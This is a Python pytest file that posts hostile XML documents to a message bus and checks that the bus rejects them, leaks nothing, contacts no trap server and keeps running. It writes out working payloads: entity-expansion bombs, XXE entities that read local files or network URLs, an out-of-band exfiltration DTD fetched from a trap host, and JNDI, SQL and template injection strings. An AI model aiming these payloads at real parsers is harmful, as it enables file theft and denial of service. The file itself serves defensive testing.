"""Hostile documents posted to a running bus: refused with a sentence, nothing read, nobody contacted, the bus lives."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

SECRET = "ТАЙНА-9f4c2b"
NOTE = "urn:omsbus:attack:1"
SOAP = "http://schemas.xmlsoap.org/soap/envelope/"

Make = Callable[[str, str], bytes]
"""(URL of the secret file, URL of the trap) → document."""


def note(prolog: str, text: str, encoding: str = "utf-8") -> bytes:
    return f'{prolog}<Note xmlns="{NOTE}">{text}</Note>'.encode(encoding)


def bomb(levels: int, width: int) -> str:
    lines = ['<!ENTITY e0 "ха">']
    lines += [f'<!ENTITY e{n} "{f"&e{n - 1};" * width}">' for n in range(1, levels)]
    return f"<!DOCTYPE Note [{''.join(lines)}]>"


NAMESPACES = [b" ".join(b"xmlns:a%d='u:%d'" % (k, k) for k in range(n, n + 100)) for n in range(0, 10_000, 100)]
"""A hundred for each of a hundred levels. The canonical form of 3 MB of such cost half a minute."""
MANY_ATTRIBUTES = " ".join(f"a{n}=''" for n in range(100_000))

DOCTYPES: dict[str, Make] = {
    "a billion laughs": lambda f, u: note(bomb(10, 10), "&e9;"),
    "a quadratic blow-up": lambda f, u: note(f'<!DOCTYPE Note [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 2000),
    "entities that name each other": lambda f, u: note('<!DOCTYPE Note [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    "an entity out of a file": lambda f, u: note(f'<!DOCTYPE Note [<!ENTITY x SYSTEM "{f}">]>', "&x;"),
    "an entity out of the network": lambda f, u: note(f'<!DOCTYPE Note [<!ENTITY x SYSTEM "{u}/x">]>', "&x;"),
    "an entity by a public identifier": lambda f, u: note(
        f'<!DOCTYPE Note [<!ENTITY x PUBLIC "-//x//EN" "{u}/p">]>', "&x;"
    ),
    "a parameter entity out of a file": lambda f, u: note(f'<!DOCTYPE Note [<!ENTITY % x SYSTEM "{f}"> %x;]>', "a"),
    "a parameter entity that sends a file away": lambda f, u: note(
        f'<!DOCTYPE Note [<!ENTITY % f SYSTEM "{f}"><!ENTITY % d SYSTEM "{u}/evil.dtd"> %d; %send;]>', "a"
    ),
    "an external subset": lambda f, u: note(f'<!DOCTYPE Note SYSTEM "{u}/evil.dtd">', "a"),
    "an external subset out of a file": lambda f, u: note(f'<!DOCTYPE Note SYSTEM "{f}">', "a"),
    "an attribute default": lambda f, u: note('<!DOCTYPE Note [<!ATTLIST Note id CDATA "x">]>', "a"),
    "a bare declaration": lambda f, u: note("<!DOCTYPE Note>", "a"),
    "a declaration hidden behind comments": lambda f, u: note(
        f'<?xml version="1.0"?><!-- x --><?p q?>\n<!DOCTYPE Note [<!ENTITY x SYSTEM "{f}">]>', "&x;"
    ),
    "a declaration in UTF-16": lambda f, u: note(
        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Note [<!ENTITY x SYSTEM "{f}">]>', "&x;", "utf-16"
    ),
    "a declaration in UTF-7": lambda f, u: (
        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE Note+AD4-<Note xmlns="urn:omsbus:attack:1">a</Note>'
    ),
    "an entity in an attribute": lambda f, u: (
        f'<!DOCTYPE Note [<!ENTITY x SYSTEM "{f}">]><Note xmlns="{NOTE}" a="&x;"/>'.encode()
    ),
    "a DTD in a SOAP envelope": lambda f, u: (
        f'<!DOCTYPE x [<!ENTITY x SYSTEM "{f}">]><s:Envelope xmlns:s="{SOAP}"><s:Body><a>&x;</a></s:Body></s:Envelope>'
    ).encode(),
}

SHAPES: dict[str, Make] = {
    "an abyss of nested elements": lambda f, u: b"<a>" * 100_000 + b"</a>" * 100_000,
    "a hundred thousand attributes": lambda f, u: f'<Note xmlns="{NOTE}" {MANY_ATTRIBUTES}/>'.encode(),
    "tens of thousands of namespaces": lambda f, u: (
        b"<n:l xmlns:n='urn:n' %b>" * 100 % tuple(NAMESPACES) + b"<a0:c/>" * 20_000 + b"</n:l>" * 100
    ),
    "millions of elements": lambda f, u: f'<Note xmlns="{NOTE}">{"<a/>" * 3_100_000}</Note>'.encode(),
    "a text without end": lambda f, u: note("", "а" * 6_000_000),
    "an undeclared entity": lambda f, u: note("", "&nobody;"),
    "a zero octet": lambda f, u: b'<Note xmlns="urn:omsbus:attack:1">a\x00b</Note>',
    "two roots": lambda f, u: note("", "a") * 2,
    "half a document": lambda f, u: note("", "a")[:-3],
    "octets that are no text": lambda f, u: b"\xff\xfe\x00\xd8" * 100,
    "an encoding that nobody knows": lambda f, u: b'<?xml version="1.0" encoding="EBCDIC-CP-US"?><a/>',
    "an executable": lambda f, u: b"\x7fELF" + bytes(range(256)) * 10,
}


@pytest.mark.feature("BUS-14")
@pytest.mark.parametrize("name", [*DOCTYPES, *SHAPES])
def test_a_hostile_document_is_refused_and_the_process_lives(house, trap, secret_file: Path, name: str) -> None:
    document = (DOCTYPES | SHAPES)[name](secret_file.as_uri(), trap.url)
    answer = house.post(document)
    assert answer.status_code == 400
    assert "xml" in answer.headers["content-type"] or answer.json()["detail"]
    assert SECRET not in answer.text
    if name in DOCTYPES:
        assert "DTD" in answer.text or "одировк" in answer.text
    assert not trap.contacts
    assert not house.keeps(SECRET)
    house.lives()


HARMLESS: dict[str, Make] = {
    "XInclude of a file": lambda f, u: note(
        "", f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{f}" parse="text"/>'
    ),
    "XInclude out of the network": lambda f, u: note(
        "", f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{u}/x"/>'
    ),
    "a schema named by the sender": lambda f, u: (
        f'<Note xmlns="{NOTE}" xmlns:i="http://www.w3.org/2001/XMLSchema-instance" '
        f'i:schemaLocation="{NOTE} {u}/evil.xsd">a</Note>'
    ).encode(),
    "a style sheet named by the sender": lambda f, u: note(f'<?xml-stylesheet href="{u}/evil.xsl"?>', "a"),
    "text that looks like an expression": lambda f, u: note("", "' or '1'='1 ${jndi:ldap://127.0.0.1/x} {{7*7}}"),
}


@pytest.mark.feature("BUS-14")
@pytest.mark.parametrize("name", HARMLESS)
def test_what_asks_to_be_resolved_stays_text(house, trap, secret_file: Path, name: str) -> None:
    assert house.post(HARMLESS[name](secret_file.as_uri(), trap.url)).status_code == 202
    house.lives()
    assert not trap.contacts
    assert not house.keeps(SECRET)
    assert SECRET not in "".join(house.seen)
